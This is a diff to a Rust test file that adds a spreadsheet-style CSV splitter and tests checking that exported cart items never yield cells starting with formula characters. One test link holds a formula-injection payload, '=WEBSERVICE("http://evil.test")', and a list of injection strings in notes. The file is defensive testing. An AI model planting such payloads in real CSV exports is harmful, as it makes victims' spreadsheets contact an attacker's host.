@@ -343,6 +343,82 @@ fn no_title_is_a_formula() {
     }
 }
 
+/// Reads a table with another separator, as spreadsheets do: quotes hold a cell together where it begins with one, and
+/// what stands after the closing one belongs to the cell. With `naive`, quotes are signs like any other.
+fn cells(text: &str, separator: char, naive: bool) -> Vec<String> {
+    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
+    let mut begins = true;
+    let mut signs = text.chars().peekable();
+    while let Some(sign) = signs.next() {
+        if quoted {
+            match sign {
+                '"' if signs.peek() == Some(&'"') => cell.extend(signs.next()),
+                '"' => quoted = false,
+                _ => cell.push(sign),
+            }
+        } else if sign == separator || sign == '\n' || sign == '\r' {
+            cells.push(std::mem::take(&mut cell));
+            begins = true;
+            // The sign that a line ends with begins no cell, unless another such sign follows.
+            if sign == '\r' {
+                signs.next_if_eq(&'\n');
+            }
+            continue;
+        } else if sign == '"' && begins && !naive {
+            quoted = true;
+        } else {
+            cell.push(sign);
+        }
+        begins = false;
+    }
+    cells.push(cell);
+    cells
+}
+
+/// Somebody else's link opens as a formula where the list separator is `;`, unless every piece is looked at.
+#[test]
+fn no_cell_is_a_formula_by_any_separator() {
+    let kettle = |link: &str, note: &str| {
+        let mut item = item("B0057OC5O8", "ada", "18", "a;=1;\"@b");
+        item.found.link = format!("https://www.amazon.co.jp/dp/B0057OC5O8{link}");
+        item.status = ItemStatus::Replied { url: "https://x.com/me/status/9?;=1".to_owned() };
+        CartItem { note: note.to_owned(), ..item }
+    };
+    let link = "?x=;=WEBSERVICE(\"http://evil.test\")";
+    let text = csv(&[kettle(link, "ok")], &|_| String::new());
+    assert!(text.contains("?x=%3B=WEBSERVICE("), "{text}");
+    for note in [
+        "a;=1",
+        "a;\t=1",
+        "a\n=1",
+        "a\r\n+1",
+        "a\t@x",
+        ";-1",
+        "a;\"=1\"",
+        "a;''\u{200b}=1",
+        "a;\ta",
+        "\t=1",
+        "a\r\rb",
+    ] {
+        let text = csv(&[kettle(link, note)], &|_| String::new());
+        for separator in [',', ';', '\t'] {
+            for naive in [false, true] {
+                // Of a comma no program takes a cell apart that begins with a quote.
+                if separator == ',' && naive {
+                    continue;
+                }
+                for cell in cells(text.trim_start_matches('\u{feff}'), separator, naive) {
+                    let cell_begins = cell.trim_start_matches(['"', ' ']);
+                    assert!(
+                        !cell_begins.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                        "{note:?} by {separator:?}, naive {naive}: {cell:?} of {text:?}"
+                    );
+                }
+            }
+        }
+    }
+}
+
 /// Reads CSV as RFC 4180 has it.
 fn parsed(text: &str) -> Vec<Vec<String>> {
     let (mut rows, mut row, mut field, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
@@ -408,6 +484,11 @@ proptest! {
         prop_assert_eq!(&plan.refused, &Vec::new());
         prop_assert_eq!(out(&done(&Vec::new(), plan)), before);
         let table = csv(&[one], &|_| String::new());
+        for separator in [',', ';', '\t'] {
+            for cell in cells(table.trim_start_matches('\u{feff}'), separator, false) {
+                prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{:?} in {:?}", cell, table);
+            }
+        }
         let rows = parsed(&table);
         prop_assert_eq!((rows.len(), rows[1].len()), (2, 11));
         for field in &rows[1] {
